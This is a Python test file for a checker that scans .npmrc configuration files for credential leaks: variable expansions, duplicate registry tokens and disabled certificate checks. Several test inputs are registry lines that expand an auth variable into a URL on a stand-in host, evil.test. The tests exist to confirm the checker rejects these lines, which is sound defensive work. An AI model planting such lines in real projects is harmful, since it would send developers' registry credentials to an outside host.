"""What `.npmrc` files say, and what in them would take a credential elsewhere."""

import pytest

from azext_devops_pat.core.errors import InputError
from azext_devops_pat.tools import npm

OURS = "//pkgs.dev.azure.com/contoso/_packaging/feed/npm/registry/"
VARIABLE = f"npm_config_{OURS}:_auth"


@pytest.fixture
def home(tmp_path):
    (tmp_path / "home" / "work" / "project").mkdir(parents=True)
    return tmp_path / "home"


def read(home, environment=()):
    return npm.files(home / "work" / "project", home, dict(environment))


def test_every_file_above_the_folder_is_the_projects_and_that_of_the_home_is_the_users(home):
    for place in ("work/project", "work", ".", ".."):
        (home / place / ".npmrc").write_text("a=1\n")
    found = [(str(text.path.relative_to(home.parent)), text.is_users) for text in read(home)]
    assert found == [
        ("home/work/project/.npmrc", False),
        ("home/work/.npmrc", False),
        (".npmrc", False),
        ("home/.npmrc", True),
    ]


def test_the_users_file_may_be_elsewhere(home):
    (home / "mine").write_text("a=1\n")
    (found,) = read(home, {"NPM_CONFIG_USERCONFIG": str(home / "mine")}.items())
    assert (found.path, found.is_users) == (home / "mine", True)


def test_registries_are_found_in_every_spelling(home):
    (home / "work" / ".npmrc").write_text(
        '; comment\nregistry = "https://a/"\n@s:registry=https://b/\nregistryx=no\n//c/d/:_password=x\n[section]\n'
    )
    environment = {"NPM_CONFIG_REGISTRY": "https://e/", "npm_config_@s:registry": "https://f/", "npm_config_x": "no"}
    found = npm.registries(list(npm.lines(read(home))), environment)
    assert sorted(found) == ["https://a/", "https://b/", "https://c/d/", "https://e/", "https://f/"]


@pytest.mark.parametrize(
    "line",
    [
        f"registry=https://evil.test/${{{VARIABLE}}}",
        f"registry=https://evil.test/${{{VARIABLE}?}}",
        f"registry=https://evil.test/${{{VARIABLE.upper()}-x}}",
        f"x${{{VARIABLE}}}=1",
        f"; ${{{VARIABLE}}}",
    ],
)
def test_a_line_that_uses_the_variable_is_named_with_its_number(home, line):
    path = home / "work" / ".npmrc"
    path.write_text(f"a=1\n\n{line}\n")
    with pytest.raises(InputError, match=f"{path}:3: this line would put the credential"):
        npm.check_expansions(npm.expanding_files(home / "work" / "project", home), [VARIABLE])


def test_other_variables_and_the_users_own_file_are_left_alone(home):
    (home / "work" / ".npmrc").write_text(f"a=${{NPM_TOKEN}}\nb={VARIABLE}\nc=${{X_{VARIABLE}x}}\n")
    (home / ".npmrc").write_text(f"a=${{{VARIABLE}}}\n")
    npm.check_expansions(npm.expanding_files(home / "work" / "project", home), [VARIABLE])


@pytest.mark.parametrize("folder", ["work", "."])
def test_a_token_for_the_same_registry_is_named_wherever_it_is(home, folder):
    (home / folder / ".npmrc").write_text(f"//other/:_authToken=x\n{OURS}:_authToken = x\n")
    with pytest.raises(InputError, match=r"\.npmrc:2: this _authToken"):
        npm.check_keys(list(npm.lines(read(home))), lambda url: url == f"https:{OURS}")


def test_a_project_that_turns_certificates_off_is_named_and_a_user_may(home):
    (home / ".npmrc").write_text("strict-ssl=false\n")
    npm.check_keys(list(npm.lines(read(home))), lambda url: False)
    (home / "work" / ".npmrc").write_text("strict-ssl=FALSE\n")
    with pytest.raises(InputError, match="certificates"):
        npm.check_keys(list(npm.lines(read(home))), lambda url: False)
